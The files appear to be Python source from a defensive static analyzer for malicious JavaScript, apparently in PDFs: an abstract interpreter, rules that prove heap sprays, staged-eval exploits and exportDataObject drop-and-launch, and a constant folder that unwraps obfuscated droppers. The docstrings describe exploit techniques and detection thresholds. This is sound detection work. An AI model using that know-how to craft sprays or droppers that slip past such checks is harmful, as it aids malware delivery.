                f"{self.label}::{label}@{self.depth + 1}",
            )
            if not ran:
                return lat.TOP
            if written is None:
                self.havoc_all()
            else:
                self.havoc(written)
            if may_abort:
                self.aborted = True
            return lat.TOP
        # Runtime-computed code: the one thing the abstraction cannot
        # peel.  Havoc everything; the walker records the channel.
        self.havoc_all()
        return lat.TOP


def _js_text(value: lat.Const) -> str:
    """JS ToString for constants (inf/NaN-safe)."""
    if isinstance(value, bool):
        return "true" if value else "false"
    if value is None:
        return "null"
    if isinstance(value, float):
        if value != value:
            return "NaN"
        if math.isinf(value):
            return "Infinity" if value > 0 else "-Infinity"
        if value == int(value) and abs(value) < 1e21:
            return str(int(value))
        return repr(value)
    return str(value)


def _parse_number(
    name: str, value: lat.Const, args: List[lat.AbsValue]
) -> Optional[float]:
    if not isinstance(value, str):
        if name == "Number" and isinstance(value, (bool, float)):
            return float(value)
        return None
    text = value.strip()
    try:
        if name == "parseInt":
            base = 10
            if len(args) > 1 and isinstance(args[1], lat.AbsConst):
                rng = lat.number_range(args[1])
                if rng is not None and rng.exact_value is not None:
                    candidate = rng.exact_value
                    if math.isfinite(candidate):
                        base = int(candidate) or 10
            if not (2 <= base <= 36):
                return None
            return float(int(text, base))
        return float(text)
    except (ValueError, TypeError, OverflowError):
        return None


def _from_char_code(args: List[lat.AbsValue]) -> lat.AbsValue:
    chars: List[str] = []
    for arg in args:
        rng = lat.number_range(arg)
        if rng is None or rng.exact_value is None:
            return lat.AbsStr(
                lat.SHAPE_TEXT, lat.Interval.exact(float(len(args)))
            )
        code = rng.exact_value
        if not math.isfinite(code):
            return lat.AbsStr(
                lat.SHAPE_TEXT, lat.Interval.exact(float(len(args)))
            )
        chars.append(chr(int(code) & 0xFFFF))
    return lat.AbsConst("".join(chars))


def _fold_string_method(
    text: str, method: str, args: List[lat.Const]
) -> Optional[lat.AbsValue]:
    """Exact string-method folding on a constant receiver (never
    raises; hostile arguments yield ``None`` → abstract fallback)."""
    try:
        if method in ("substr", "substring", "slice"):
            start = int(_num_or(args[0], 0.0)) if args else 0
            if method == "substr":
                length = (
                    int(_num_or(args[1], float(len(text))))
                    if len(args) > 1
                    else len(text)
                )
                start = max(0, start if start >= 0 else len(text) + start)
                return lat.AbsConst(text[start : start + max(0, length)])
            end = (
                int(_num_or(args[1], float(len(text))))
                if len(args) > 1
                else len(text)
            )
            if method == "slice":
                if start < 0:
                    start = max(0, len(text) + start)
                if end < 0:
                    end = max(0, len(text) + end)
                return lat.AbsConst(text[start:end])
            return lat.AbsConst(text[max(0, start) : max(0, end)])
        if method == "charAt":
            i = int(_num_or(args[0], 0.0)) if args else 0
            return lat.AbsConst(text[i] if 0 <= i < len(text) else "")
        if method == "charCodeAt":
            i = int(_num_or(args[0], 0.0)) if args else 0
            if 0 <= i < len(text):
                return lat.AbsConst(float(ord(text[i])))
            return lat.AbsConst(float("nan"))
        if method == "concat":
            joined = text + "".join(_js_text(a) for a in args)
            if len(joined) <= MAX_EXACT_CHARS:
                return lat.AbsConst(joined)
            return None
        if method == "toLowerCase" and not args:
            return lat.AbsConst(text.lower())
        if method == "toUpperCase" and not args:
            return lat.AbsConst(text.upper())
        if method == "replace" and len(args) == 2:
            if isinstance(args[0], str) and isinstance(args[1], str):
                return lat.AbsConst(text.replace(args[0], args[1], 1))
    except (IndexError, ValueError, TypeError, OverflowError):
        return None
    return None


def _num_or(value: lat.Const, default: float) -> float:
    if isinstance(value, bool):
        return 1.0 if value else 0.0
    if isinstance(value, float) and math.isfinite(value):
        return value
    if isinstance(value, str):
        try:
            return float(value.strip() or "0")
        except ValueError:
            return default
    return default


# ---------------------------------------------------------------------------
# Channel walker: every call site the interpreter did not prove harmless
# becomes a *channel* — a way the abstraction could be escaped.  The
# proven-benign verdict requires zero channels, so this walk must be
# exhaustive over the whole layer including code the interpreter never
# reached (function bodies, dead branches, catch blocks).


class _ChannelWalker:
    def __init__(
        self,
        engine: _Engine,
        interp: _Interp,
        program: ast.Program,
        depth: int,
        label: str,
        ctx: Optional[RuleContext],
    ) -> None:
        self.engine = engine
        self.interp = interp
        self.program = program
        self.depth = depth
        self.label = label
        self.ctx = ctx

    def run(self) -> None:
        mask = set(self.interp.declared)
        local_funcs = set(self.interp.declared_funcs)
        for node in self.program.body:
            self._visit(node, mask, local_funcs)

    def _visit(
        self, node: ast.Node, mask: Set[str], local_funcs: Set[str]
    ) -> None:
        self.engine.budget.tick()
        if _is_function(node):
            body = node.body  # type: ignore[attr-defined]
            params = node.params  # type: ignore[attr-defined]
            var_names, func_names = _scope_declared(body)
            inner_mask = mask | set(params) | var_names | func_names
            name = getattr(node, "name", None)
            if isinstance(node, ast.FunctionExpression) and name:
                inner_mask.add(name)
            inner_funcs = local_funcs | func_names
            self._visit(body, inner_mask, inner_funcs)
            return
        if isinstance(node, (ast.CallExpression, ast.NewExpression)):
            self._classify_call(node, mask, local_funcs)
        from repro.jsast.walk import iter_child_nodes

        for child in iter_child_nodes(node):
            self._visit(child, mask, local_funcs)

    # -- classification --------------------------------------------------

    def _classify_call(
        self, node: ast.Node, mask: Set[str], local_funcs: Set[str]
    ) -> None:
        if id(node) in self.engine.handled_evals:
            return
        callee = node.callee  # type: ignore[attr-defined]
        arguments: List[ast.Node] = node.arguments  # type: ignore[attr-defined]
        if isinstance(callee, ast.Identifier):
            name = callee.name
            if name in local_funcs:
                return
            if name in mask:
                # Calling a local variable: harmless only if it provably
                # holds a layer-local function.
                bound = self.interp.env.get(name)
                if isinstance(bound, lat.AbsFunc):
                    return
                self.engine.channel(
                    CHANNEL_OPAQUE_CALL, name, self.depth
                )
                return
            if name in ("eval", "Function"):
                self._peel_or_channel(node, arguments, name)
                return
            if name in PURE_CALLEES:
                return
            if name in SIDE_EFFECT_COMPONENTS:
                self.engine.channel(CHANNEL_SIDE_EFFECT, name, self.depth)
                return
            self.engine.channel(CHANNEL_OPAQUE_CALL, name, self.depth)
            return
        if isinstance(callee, ast.MemberExpression):
            self._classify_member_call(node, callee, arguments, mask)
            return
        # Computed callee expression — opaque by construction.
        self.engine.channel(CHANNEL_OPAQUE_CALL, "<computed>", self.depth)

    def _classify_member_call(
        self,
        node: ast.Node,
        callee: ast.MemberExpression,
        arguments: List[ast.Node],
        mask: Set[str],
    ) -> None:
        method = self._method_name(callee)
        root = callee.obj
        while isinstance(root, ast.MemberExpression):
            root = root.obj
        root_local = isinstance(root, ast.Identifier) and root.name in mask

        if method is None:
            self.engine.channel(
                CHANNEL_OPAQUE_CALL, "<computed-member>", self.depth
            )
            return

        if root_local:
            assert isinstance(root, ast.Identifier)
            bound = self.interp.env.get(root.name)
            if bound is not None and not isinstance(bound, lat.AbsFunc):
                # Known layer-local value (string/number/array/object):
                # its methods cannot reach a host API.
                return
            if (
                root.name in self.interp.declared
                and root.name not in self.interp.tainted
            ):
                # Declared and only ever assigned provably-local values
                # (a join may have dropped it from the env, but it can
                # never alias a host object).
                return
            self.engine.channel(
                CHANNEL_OPAQUE_CALL, f"{root.name}.{method}", self.depth
            )
            return

        if self.ctx is not None:
            path = member_path(callee, self.ctx.folder) or method
        else:
            path = method

        if method in _EVAL_METHODS or (
            method in _WRITE_METHODS and "document" in path.split(".")
        ):
            self._peel_or_channel(node, arguments, path)
            return
        if method == "fromCharCode" and path.startswith("String."):
            return
        if path in HARMLESS_HOST_APIS:
            return
        if any(
            _suffix_matches(path, suffix) for suffix in EXPLOIT_CALL_SUFFIXES
        ):
            self.engine.channel(CHANNEL_EXPLOIT, path, self.depth)
            return
        if method in SIDE_EFFECT_COMPONENTS or any(
            path.startswith(prefix) for prefix in SIDE_EFFECT_PREFIXES
        ):
            self.engine.channel(CHANNEL_SIDE_EFFECT, path, self.depth)
            if method == "exportDataObject":
                self.interp._record_export(node, path, arguments)
            return
        # Any other host-object call is an opaque channel: we cannot
        # prove it stays off the scored API surface.
        self.engine.channel(CHANNEL_OPAQUE_CALL, path, self.depth)

    def _peel_or_channel(
        self, node: ast.Node, arguments: List[ast.Node], path: str
    ) -> None:
        """An eval-family call the interpreter never executed: peel it
        if the argument folds to a constant, else record the channel."""
        code: Optional[str] = None
        if arguments:
            last = arguments[-1]
            if isinstance(last, ast.StringLiteral):
                code = last.value
            elif self.ctx is not None:
                code = self.ctx.const_str(last)
        if code is None:
            self.engine.channel(CHANNEL_OPAQUE_EVAL, path, self.depth)
            return
        self.engine.handled_evals.add(id(node))
        self.engine.analyze_layer(
            code,
            self.depth + 1,
            False,
            f"{self.label}::{path}@{self.depth + 1}",
        )

    def _method_name(self, member: ast.MemberExpression) -> Optional[str]:
        if not member.computed and isinstance(member.prop, ast.Identifier):
            return member.prop.name
        if member.computed:
            if isinstance(member.prop, ast.StringLiteral):
                return member.prop.value
            if self.ctx is not None:
                return self.ctx.const_str(member.prop)
        return None


def _suffix_matches(path: str, suffix: str) -> bool:
    if "." in suffix:
        return path == suffix or path.endswith("." + suffix)
    return path.rsplit(".", 1)[-1] == suffix


# ---------------------------------------------------------------------------
# Entry point


def interpret_script(
    code: str,
    *,
    max_steps: int = DEFAULT_MAX_STEPS,
    label: str = "script",
) -> AbsintResult:
    """Abstractly interpret ``code`` and every constant layer it stages.

    Raises :class:`AbsintBudgetExceeded` only internally — budget
    exhaustion is reported via ``status == "budget-exhausted"``.  Other
    exceptions propagate; :func:`repro.jsast.rules_absint.run_absint`
    wraps this with a never-raises guarantee.
    """
    budget = _Budget(max_steps)
    engine = _Engine(budget)
    try:
        engine.analyze_layer(code, 0, True, label)
    except AbsintBudgetExceeded:
        engine.result.status = "budget-exhausted"
    engine.result.steps = budget.steps
    return engine.result
