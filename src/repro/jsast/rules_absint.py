"""The proof tier: verdicts from abstract-interpretation facts.

:func:`run_absint` drives :func:`repro.jsast.absint.interpret_script`
under the ambient :mod:`repro.limits` budget and turns the collected
facts into one of three verdicts:

``proven-benign``
    Sound claim: under the abstraction, no execution of the script (or
    of any code layer it stages) reaches a scored host API channel.
    Requires every layer to parse, zero channels of any kind, zero
    classic SUSPICIOUS+ rules on every layer, and zero side-effect
    APIs.  Soundness boundaries (host APIs modelled non-throwing and
    non-rebinding, the scored-API surface) are documented in
    ``docs/STATIC_ANALYSIS.md``.

``proven-malicious``
    Sound claim in the *other* direction: some fact combination proves
    the runtime detector would flag the document.  Three proof rules:

    * ``absint-heap-spray`` — a must-executed array fill whose element
      carries a proven sled prefix ≥ the spray threshold and whose
      loop trip-count bound puts total bytes over the detector's
      memory threshold (F8's 100 MB).
    * ``absint-staged-eval`` — a must-executed staged code layer
      (depth ≥ 1) invokes a known exploit API, corroborated by a
      proven sled elsewhere in the chain.
    * ``absint-export-launch`` — a must-executed
      ``exportDataObject({..., nLaunch: >=1})`` drop-and-launch.

``unknown``
    Everything else; ``reason`` says what blocked the proof.  Unknown
    always fails open to the runtime pipeline.

This module never raises: any exception out of the interpreter is
caught and reported as ``status: error`` / verdict ``unknown``.
"""

from __future__ import annotations

from typing import Any, Dict, List, Optional, Tuple

from repro import limits as limits_mod
from repro.jsast.absint import (
    CHANNEL_EXPLOIT,
    DEFAULT_MAX_STEPS,
    AbsintResult,
    interpret_script,
)
from repro.jsast.report import Finding, Severity
from repro.jsast.rules import SPRAY_LENGTH_THRESHOLD

#: Version stamp embedded in cache fingerprints: bump on any change to
#: the interpreter's precision or the proof rules below.
ABSINT_VERSION = "1"

#: F8's threshold (Table VII ``memory_threshold_bytes``); duplicated as
#: a literal to keep :mod:`repro.jsast` import-independent from
#: :mod:`repro.core`.
MEMORY_THRESHOLD_BYTES = 100 * 1024 * 1024


def _max_steps() -> int:
    budget = limits_mod.active()
    if budget is not None:
        return int(budget.limits.max_absint_steps)
    return DEFAULT_MAX_STEPS


def _spray_proofs(result: AbsintResult) -> List[Finding]:
    proofs: List[Finding] = []
    for fill in result.fills:
        if not fill.must:
            continue
        if fill.sled_lo < SPRAY_LENGTH_THRESHOLD:
            continue
        if fill.bytes_lo < MEMORY_THRESHOLD_BYTES:
            continue
        mb = fill.bytes_lo / (1024 * 1024)
        proofs.append(
            Finding(
                rule="absint-heap-spray",
                severity=Severity.PROVEN,
                message=(
                    f"proven heap spray: array {fill.array!r} "
                    f"(layer {fill.layer}) filled with ≥{fill.sled_lo} "
                    f"sled chars per element × ≥{fill.trip_lo} "
                    f"iterations ≥ {mb:.0f} MB"
                ),
                evidence=(
                    f"unit={fill.unit!r} elem≥{fill.elem_len_lo} "
                    f"sled≥{fill.sled_lo} trips≥{fill.trip_lo} "
                    f"bytes≥{fill.bytes_lo}"
                ),
            )
        )
    return proofs


def _staged_eval_proofs(result: AbsintResult) -> List[Finding]:
    """A must-executed staged layer calling an exploit API, with a
    proven sled anywhere in the chain as corroboration."""
    sled_lo = max(
        (s.lo for s in result.sleds if s.must and s.lo >= SPRAY_LENGTH_THRESHOLD),
        default=0,
    )
    if not sled_lo:
        return []
    must_depths = {
        layer.depth for layer in result.layers if layer.must and layer.depth >= 1
    }
    proofs: List[Finding] = []
    for channel in result.channels:
        if channel.kind != CHANNEL_EXPLOIT:
            continue
        if channel.layer not in must_depths:
            continue
        proofs.append(
            Finding(
                rule="absint-staged-eval",
                severity=Severity.PROVEN,
                message=(
                    f"proven staged exploit: layer {channel.layer} "
                    f"(peeled through {channel.layer} eval layer(s)) "
                    f"must call {channel.path} with a ≥{sled_lo}-char "
                    "sled staged"
                ),
                evidence=f"path={channel.path} depth={channel.layer} sled≥{sled_lo}",
            )
        )
    return proofs


def _export_proofs(result: AbsintResult) -> List[Finding]:
    proofs: List[Finding] = []
    for export in result.exports:
        if not export.must:
            continue
        if export.launch is None or export.launch < 1:
            continue
        name = export.name or "?"
        proofs.append(
            Finding(
                rule="absint-export-launch",
                severity=Severity.PROVEN,
                message=(
                    f"proven drop-and-launch: exportDataObject("
                    f"cName={name!r}, nLaunch={int(export.launch)}) "
                    "must execute"
                ),
                evidence=f"path={export.path} layer={export.layer}",
            )
        )
    return proofs


def _benign_blocker(result: AbsintResult) -> Optional[str]:
    """Why PROVEN-BENIGN cannot be claimed (``None`` = it can)."""
    if result.status == "budget-exhausted":
        return "absint-budget"
    if result.status != "ok":
        return "absint-error"
    for layer in result.layers:
        if layer.parse_error is not None:
            return f"parse-error@{layer.depth}"
    for layer in result.layers:
        if layer.blocking_rules:
            return f"suspicious-findings:{layer.blocking_rules[0]}"
    for layer in result.layers:
        if layer.side_effect_apis:
            return f"side-effect-apis:{layer.side_effect_apis[0]}"
    if result.channels:
        first = result.channels[0]
        return f"{first.kind}:{first.path}"
    return None


def evaluate(result: AbsintResult) -> Tuple[str, str, List[Finding]]:
    """``(verdict, reason, proof_findings)`` for one interpreted script.

    Proven-malicious takes precedence: the proofs are must-facts, valid
    even when the rest of the script is opaque.  A budget-exhausted or
    errored run can still be proven malicious by facts collected before
    the cutoff (must-facts are only recorded once stable), but never
    proven benign.
    """
    proofs = (
        _spray_proofs(result)
        + _staged_eval_proofs(result)
        + _export_proofs(result)
    )
    if proofs:
        return "proven-malicious", proofs[0].rule, proofs
    blocker = _benign_blocker(result)
    if blocker is None:
        return "proven-benign", "no-reachable-channel", []
    return "unknown", blocker, []


def run_absint(code: str, *, label: str = "script") -> Dict[str, Any]:
    """Interpret ``code`` and evaluate the proof rules.  Never raises.

    Returns the ``absint`` section stored on
    :class:`repro.jsast.report.JSStaticReport`: verdict + reason +
    proof findings + the full fact dump.
    """
    try:
        result = interpret_script(code, max_steps=_max_steps(), label=label)
    except Exception as exc:  # noqa: BLE001 - fail open, always
        return {
            "version": ABSINT_VERSION,
            "verdict": "unknown",
            "reason": f"absint-error:{type(exc).__name__}",
            "status": "error",
            "error": f"{type(exc).__name__}: {exc}",
            "steps": 0,
            "max_depth": 0,
            "proofs": [],
            "layers": [],
            "channels": [],
            "fills": [],
            "sleds": [],
            "exports": [],
            "env_summary": {},
        }
    try:
        verdict, reason, proofs = evaluate(result)
    except Exception as exc:  # noqa: BLE001 - a broken proof rule
        verdict, reason, proofs = (
            "unknown",
            f"absint-error:{type(exc).__name__}",
            [],
        )
    section = result.to_dict()
    section["version"] = ABSINT_VERSION
    section["verdict"] = verdict
    section["reason"] = reason
    section["max_depth"] = result.max_depth
    section["proofs"] = [finding.to_dict() for finding in proofs]
    return section


def proof_findings(section: Dict[str, Any]) -> List[Finding]:
    """Rehydrate the PROVEN findings from a stored absint section."""
    return [Finding.from_dict(f) for f in section.get("proofs", [])]
