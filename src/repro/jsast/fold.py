"""Constant folding and string-concat propagation (mini abstract
interpretation).

Obfuscated droppers rarely write ``unescape("%u9090...")`` directly;
they build the argument from concatenated fragments, ``String.
fromCharCode`` runs and single-assignment temporaries.  This pass
evaluates the *provably constant* part of a script so the lint rules
see through exactly that one layer:

* literals, ``+`` concatenation/addition, numeric arithmetic, unary
  ops and constant conditionals fold bottom-up;
* ``String.fromCharCode``, ``unescape``, ``parseInt`` and the common
  ``substr``/``substring``/``charAt``/``charCodeAt``/``concat``/
  ``toLowerCase``/``toUpperCase``/``join`` methods fold when every
  argument (and the receiver) is constant;
* identifiers substitute their initialiser value when the variable is
  assigned exactly once, by a top-level ``var`` declaration — anything
  reassigned, updated, or declared inside a loop/branch/function stays
  opaque (loops are never executed, so a doubling loop cannot blow the
  interpreter up).

The pass is *sound for rules, not for execution*: a node either folds
to the exact runtime constant or is left untouched.  Folded results
are capped at :data:`MAX_FOLD_CHARS` to bound memory.
"""

from __future__ import annotations

import dataclasses
import re
from typing import Dict, List, Optional, Set, Union

from repro.js import nodes as ast
from repro.jsast.walk import walk

#: Longest string a fold may produce; larger results stay unfolded.
MAX_FOLD_CHARS = 1 << 20

#: Fixpoint passes: enough for var-to-var constant chains of depth 3.
_MAX_PASSES = 3

Const = Union[str, float, bool, None]

_UNESCAPE_RE = re.compile(r"%u([0-9a-fA-F]{4})|%([0-9a-fA-F]{2})")


def js_unescape(text: str) -> str:
    """The classic ``unescape``: ``%uXXXX`` and ``%XX`` decoding."""

    def replace(match: "re.Match[str]") -> str:
        if match.group(1) is not None:
            return chr(int(match.group(1), 16))
        return chr(int(match.group(2), 16))

    return _UNESCAPE_RE.sub(replace, text)


def _to_js_string(value: Const) -> str:
    if isinstance(value, bool):
        return "true" if value else "false"
    if value is None:
        return "null"
    if isinstance(value, float):
        if value != value:  # NaN
            return "NaN"
        if value == float("inf"):
            return "Infinity"
        if value == float("-inf"):
            return "-Infinity"
        if value == int(value) and abs(value) < 1e21:
            return str(int(value))
        return repr(value)
    return str(value)


def _to_number(value: Const) -> Optional[float]:
    if isinstance(value, bool):
        return 1.0 if value else 0.0
    if isinstance(value, float):
        return value
    if isinstance(value, str):
        text = value.strip()
        if not text:
            return 0.0
        try:
            return float(int(text, 0)) if text.lower().startswith("0x") else float(text)
        except ValueError:
            return None
    return None


class _Wrapped:
    """Box distinguishing "folded to None/null" from "did not fold"."""

    __slots__ = ("value",)

    def __init__(self, value: Const) -> None:
        self.value = value


def _collect_stable_names(program: ast.Program) -> Set[str]:
    """Names assigned exactly once, by a top-level ``var`` initialiser.

    Any write anywhere else — assignment, ``++``/``--``, a ``for-in``
    target, a nested ``var``, a function declaration or parameter —
    disqualifies the name.
    """
    writes: Dict[str, int] = {}
    top_level: Set[str] = set()
    top_ids = {id(statement) for statement in program.body}

    def bump(name: str, by: int = 1) -> None:
        writes[name] = writes.get(name, 0) + by

    for statement in program.body:
        if isinstance(statement, ast.VarDeclaration):
            for name, init in statement.declarations:
                bump(name)
                if init is not None:
                    top_level.add(name)

    for node in walk(program):
        if isinstance(node, ast.VarDeclaration):
            # Top-level declarations were counted above; nested ones
            # (inside loops/branches/functions) count as extra writes.
            if id(node) not in top_ids:
                for name, _init in node.declarations:
                    bump(name)
        elif isinstance(node, ast.AssignmentExpression):
            if isinstance(node.target, ast.Identifier):
                bump(node.target.name)
        elif isinstance(node, ast.UpdateExpression):
            if isinstance(node.operand, ast.Identifier):
                bump(node.operand.name)
        elif isinstance(node, ast.ForInStatement):
            target = node.target
            if isinstance(target, ast.Identifier):
                bump(target.name)
            elif isinstance(target, ast.VarDeclaration):
                for name, _init in target.declarations:
                    bump(name)
        elif isinstance(node, (ast.FunctionDeclaration, ast.FunctionExpression)):
            if getattr(node, "name", None):
                bump(node.name)  # type: ignore[arg-type]
            for param in node.params:
                bump(param, by=2)  # params are always runtime-varying

    return {name for name in top_level if writes.get(name, 0) == 1}


class ConstantFolder:
    """Folds one program; reusable helpers are module functions."""

    def __init__(self, program: ast.Program) -> None:
        self.program = program
        self.stable = _collect_stable_names(program)
        self.env: Dict[str, _Wrapped] = {}
        #: Constant calls whose fold was abandoned because the (hostile)
        #: arguments fall outside the builtin's total domain — e.g.
        #: ``String.fromCharCode(Infinity)``.  Surfaced by the
        #: ``unfoldable`` lint rule; the expression stays opaque.
        self.unfoldable: List[str] = []

    def _give_up(self, what: str) -> None:
        if what not in self.unfoldable:
            self.unfoldable.append(what)

    # -- environment -----------------------------------------------------

    def _seed_environment(self) -> None:
        """Bind stable names whose initialisers fold to constants."""
        for statement in self.program.body:
            if not isinstance(statement, ast.VarDeclaration):
                continue
            for name, init in statement.declarations:
                if name not in self.stable or init is None:
                    continue
                value = self.fold_expr(init)
                if value is not None:
                    self.env[name] = value

    # -- expression folding ----------------------------------------------

    def fold_expr(self, node: ast.Node) -> Optional[_Wrapped]:
        """Fold ``node`` to a constant, or ``None`` when it may vary."""
        if isinstance(node, ast.StringLiteral):
            return _Wrapped(node.value)
        if isinstance(node, ast.NumberLiteral):
            return _Wrapped(float(node.value))
        if isinstance(node, ast.BooleanLiteral):
            return _Wrapped(node.value)
        if isinstance(node, ast.NullLiteral):
            return _Wrapped(None)
        if isinstance(node, ast.Identifier):
            return self.env.get(node.name)
        if isinstance(node, ast.BinaryExpression):
            return self._fold_binary(node)
        if isinstance(node, ast.UnaryExpression):
            return self._fold_unary(node)
        if isinstance(node, ast.ConditionalExpression):
            test = self.fold_expr(node.test)
            if test is None:
                return None
            branch = node.consequent if test.value else node.alternate
            return self.fold_expr(branch)
        if isinstance(node, ast.SequenceExpression):
            if not node.expressions:
                return None
            return self.fold_expr(node.expressions[-1])
        if isinstance(node, ast.CallExpression):
            return self._fold_call(node)
        if isinstance(node, ast.MemberExpression):
            return self._fold_member(node)
        return None

    def _fold_binary(self, node: ast.BinaryExpression) -> Optional[_Wrapped]:
        left = self.fold_expr(node.left)
        if left is None:
            return None
        right = self.fold_expr(node.right)
        if right is None:
            return None
        lv, rv = left.value, right.value
        if node.op == "+":
            if isinstance(lv, str) or isinstance(rv, str):
                text = _to_js_string(lv) + _to_js_string(rv)
                if len(text) > MAX_FOLD_CHARS:
                    return None
                return _Wrapped(text)
            ln, rn = _to_number(lv), _to_number(rv)
            if ln is None or rn is None:
                return None
            return _Wrapped(ln + rn)
        ln, rn = _to_number(lv), _to_number(rv)
        if ln is None or rn is None:
            return None
        try:
            if node.op == "-":
                return _Wrapped(ln - rn)
            if node.op == "*":
                return _Wrapped(ln * rn)
            if node.op == "/":
                return _Wrapped(ln / rn) if rn != 0 else None
            if node.op == "%":
                return _Wrapped(ln % rn) if rn != 0 else None
        except (OverflowError, ValueError):
            return None
        return None

    def _fold_unary(self, node: ast.UnaryExpression) -> Optional[_Wrapped]:
        operand = self.fold_expr(node.operand)
        if operand is None:
            return None
        if node.op == "-":
            number = _to_number(operand.value)
            return _Wrapped(-number) if number is not None else None
        if node.op == "+":
            number = _to_number(operand.value)
            return _Wrapped(number) if number is not None else None
        if node.op == "!":
            return _Wrapped(not operand.value)
        return None

    def _fold_member(self, node: ast.MemberExpression) -> Optional[_Wrapped]:
        obj = self.fold_expr(node.obj)
        if obj is None or not isinstance(obj.value, str):
            return None
        if not node.computed and isinstance(node.prop, ast.Identifier):
            if node.prop.name == "length":
                return _Wrapped(float(len(obj.value)))
            return None
        if node.computed:
            index = self.fold_expr(node.prop)
            if index is None:
                return None
            number = _to_number(index.value)
            if number is None:
                return None
            i = int(number)
            if 0 <= i < len(obj.value):
                return _Wrapped(obj.value[i])
        return None

    def _fold_call(self, node: ast.CallExpression) -> Optional[_Wrapped]:
        callee = node.callee
        args: List[Const] = []
        for argument in node.arguments:
            folded = self.fold_expr(argument)
            if folded is None:
                return None
            args.append(folded.value)

        # Free functions: unescape / parseInt.
        if isinstance(callee, ast.Identifier):
            if callee.name == "unescape" and len(args) == 1 and isinstance(args[0], str):
                try:
                    text = js_unescape(args[0])
                except Exception:  # noqa: BLE001 - hostile escape soup
                    self._give_up("unescape")
                    return None
                return _Wrapped(text) if len(text) <= MAX_FOLD_CHARS else None
            if callee.name == "parseInt" and args and isinstance(args[0], str):
                try:
                    base = (
                        int(_to_number(args[1]) or 10) if len(args) > 1 else 10
                    )
                    return _Wrapped(float(int(args[0].strip(), base)))
                except (ValueError, TypeError, OverflowError):
                    # Covers both genuine NaN results ("zz") and hostile
                    # bases (Infinity, 1e308): parseInt never raises in
                    # JS, so neither may its fold.
                    return None
            return None

        if not isinstance(callee, ast.MemberExpression) or callee.computed:
            return None
        if not isinstance(callee.prop, ast.Identifier):
            return None
        method = callee.prop.name

        # String.fromCharCode(...)
        if (
            method == "fromCharCode"
            and isinstance(callee.obj, ast.Identifier)
            and callee.obj.name == "String"
        ):
            chars: List[str] = []
            for value in args:
                number = _to_number(value)
                if number is None:
                    return None
                try:
                    chars.append(chr(int(number) & 0xFFFF))
                except (ValueError, OverflowError):
                    # NaN/Infinity code points: runtime maps them to
                    # "\x00"; keeping the call opaque is the sound fold.
                    self._give_up("String.fromCharCode")
                    return None
            return _Wrapped("".join(chars))

        # [ ... ].join(sep)
        if method == "join" and isinstance(callee.obj, ast.ArrayLiteral):
            separator = _to_js_string(args[0]) if args else ","
            parts: List[str] = []
            for element in callee.obj.elements:
                folded = self.fold_expr(element)
                if folded is None:
                    return None
                parts.append(_to_js_string(folded.value))
            text = separator.join(parts)
            return _Wrapped(text) if len(text) <= MAX_FOLD_CHARS else None

        # Constant-receiver string methods.
        receiver = self.fold_expr(callee.obj)
        if receiver is None or not isinstance(receiver.value, str):
            return None
        text = receiver.value
        try:
            if method in ("substr", "substring", "slice"):
                start = int(_to_number(args[0]) or 0) if args else 0
                if method == "substr":
                    length = int(_to_number(args[1]) or 0) if len(args) > 1 else len(text)
                    start = max(0, start if start >= 0 else len(text) + start)
                    return _Wrapped(text[start : start + max(0, length)])
                end = int(_to_number(args[1]) or 0) if len(args) > 1 else len(text)
                return _Wrapped(text[max(0, start) : max(0, end)])
            if method == "charAt":
                i = int(_to_number(args[0]) or 0) if args else 0
                return _Wrapped(text[i] if 0 <= i < len(text) else "")
            if method == "charCodeAt":
                i = int(_to_number(args[0]) or 0) if args else 0
                return _Wrapped(float(ord(text[i]))) if 0 <= i < len(text) else None
            if method == "concat":
                joined = text + "".join(_to_js_string(a) for a in args)
                return _Wrapped(joined) if len(joined) <= MAX_FOLD_CHARS else None
            if method == "toLowerCase" and not args:
                return _Wrapped(text.lower())
            if method == "toUpperCase" and not args:
                return _Wrapped(text.upper())
            if method == "replace" and len(args) == 2:
                if isinstance(args[0], str) and isinstance(args[1], str):
                    return _Wrapped(text.replace(args[0], args[1], 1))
        except (IndexError, ValueError, TypeError):
            return None
        return None

    # -- tree rewriting ----------------------------------------------------

    def _rewrite(self, node: ast.Node) -> ast.Node:
        """Return ``node`` with every foldable subtree replaced by a
        literal.  Statements and unfoldable expressions are rebuilt with
        rewritten children (the original tree is never mutated)."""
        if isinstance(
            node,
            (
                ast.BinaryExpression,
                ast.CallExpression,
                ast.MemberExpression,
                ast.UnaryExpression,
                ast.ConditionalExpression,
                ast.Identifier,
            ),
        ):
            folded = self.fold_expr(node)
            if folded is not None:
                return _constant_to_literal(folded.value)
        return _rebuild(node, self._rewrite)

    def run(self) -> ast.Program:
        for _ in range(_MAX_PASSES):
            before = len(self.env)
            self._seed_environment()
            if len(self.env) == before:
                break
        rewritten = self._rewrite(self.program)
        assert isinstance(rewritten, ast.Program)
        return rewritten


def _constant_to_literal(value: Const) -> ast.Node:
    if isinstance(value, bool):
        return ast.BooleanLiteral(value)
    if isinstance(value, float):
        return ast.NumberLiteral(value)
    if value is None:
        return ast.NullLiteral()
    return ast.StringLiteral(value)


def _rebuild(node: ast.Node, transform) -> ast.Node:
    """Shallow-copy ``node`` with ``transform`` applied to node fields."""
    if not dataclasses.is_dataclass(node):
        return node
    changes = {}
    for field in dataclasses.fields(node):
        value = getattr(node, field.name)
        if isinstance(value, ast.Node):
            changes[field.name] = transform(value)
        elif isinstance(value, list):
            items = []
            for item in value:
                if isinstance(item, ast.Node):
                    items.append(transform(item))
                elif isinstance(item, tuple):
                    items.append(
                        tuple(
                            transform(element)
                            if isinstance(element, ast.Node)
                            else element
                            for element in item
                        )
                    )
                else:
                    items.append(item)
            changes[field.name] = items
    if not changes:
        return node
    return dataclasses.replace(node, **changes)


def fold_program(program: ast.Program) -> ast.Program:
    """Public entry point: a folded copy of ``program``.

    The input tree is left untouched; sharing of unfoldable subtrees
    with the output is allowed (rules only read).
    """
    return ConstantFolder(program).run()
