"""Lint-rule registry for static JS analysis.

Each rule is a function ``(RuleContext) -> Iterable[Finding]`` wrapped
by the :func:`rule` decorator.  Rules operate on the *raw* AST with a
constant folder on tap (``ctx.const_of``), plus the folded program's
constant-string pool (``ctx.const_strings``) — so a rule sees both the
``unescape("%u9090…")`` call shape and the strings an obfuscator built
out of fragments.

The registry hash feeds :func:`ruleset_version`, which the batch
verdict-cache fingerprint incorporates: editing or adding a rule
invalidates every cached verdict produced under the old rule-set.
"""

from __future__ import annotations

import hashlib
import math
import re
from dataclasses import dataclass, field
from typing import Callable, Dict, Iterable, List, Optional, Set, Tuple

from repro.js import nodes as ast
from repro.jsast.fold import ConstantFolder
from repro.jsast.report import Finding, Severity
